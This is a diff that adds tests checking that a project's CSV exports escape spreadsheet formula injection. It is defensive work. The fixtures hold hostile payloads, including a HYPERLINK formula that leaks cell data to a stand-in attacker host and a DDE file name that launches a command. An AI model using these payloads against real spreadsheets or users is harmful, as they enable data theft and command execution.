@@ -116,3 +116,49 @@ describe('CSV export', () => {
     }
   });
 });
+
+describe('CSV exports escape formula injection (OWASP: a leading single quote)', () => {
+  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\tTAB first', '\rCR first'];
+  let hostile: number;
+  let name: number;
+  let amount: number;
+  beforeAll(async () => {
+    hostile = (await created(s.admin.post('/api/v3/projects/', { name: 'Hostile' }))).id;
+    const cat = (await created(s.admin.post('/api/v3/categories/', { project: hostile, name: '=Kategorie' }))).id;
+    name = (await created(s.admin.post('/api/v3/labels/', { project: hostile, name: 'Name', data_type: 'Text', categories: [cat] }))).id;
+    amount = (await created(s.admin.post('/api/v3/labels/', { project: hostile, name: 'Betrag', data_type: 'Number', categories: [cat] }))).id;
+    const d = (await created(upload(s.admin, { project: hostile, category: cat, sync: 'true' }, { name: "=cmd|'calc'!A0.pdf", data: await pdfWithLettersAtSpans() }))).id;
+    for (const [i, text] of HOSTILE.entries()) {
+      await created(s.admin.post(`/api/v3/documents/${d}/annotations/`, { label: name, label_set: cat, span: [span(i + 1, text)] }));
+    }
+    await created(s.admin.post(`/api/v3/documents/${d}/annotations/`, { label: amount, label_set: cat, span: [span(10, '-12,50')] }));
+  });
+
+  it('all.csv: every cell that starts with = + - @ TAB or CR gets a leading quote; a negative number stays a number', async () => {
+    const r = await fetch(`${s.url}/api/v3/projects/${hostile}/export/all.csv?token=${s.admin.token}`);
+    expect(r.status).toBe(200);
+    const rows = parseCsv(await r.text());
+    const body = rows.slice(1).map((row) => Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, row[i]])));
+    expect(body.filter((b) => b.label === 'Name').map((b) => b.text).sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort());
+    for (const b of body) {
+      expect(b.data_file_name).toBe("'=cmd|'calc'!A0.pdf");
+      expect(b.category).toBe("'=Kategorie");
+    }
+    const money = body.find((b) => b.label === 'Betrag')!;
+    expect([money.text, money.normalized]).toEqual(["'-12,50", '-12.5']);
+    // No cell of the file, quoted or not, starts with a formula character any more.
+    for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+  });
+
+  it('documents.csv: the same, the file name and the values of a label alike', async () => {
+    const r = await fetch(`${s.url}/api/v3/projects/${hostile}/export/documents.csv?token=${s.admin.token}`);
+    expect(r.status).toBe(200);
+    const [header, row] = parseCsv(await r.text());
+    const doc = Object.fromEntries(header.map((h, i) => [h, row[i]]));
+    expect(doc.data_file_name).toBe("'=cmd|'calc'!A0.pdf");
+    expect(doc.category).toBe("'=Kategorie");
+    expect(doc.Betrag).toBe('-12.5');
+    // Several values of one label are one cell, a line each, in text order: the cell starts with the first.
+    expect(doc.Name).toBe(`'${HOSTILE.join('\n')}`);
+  });
+});
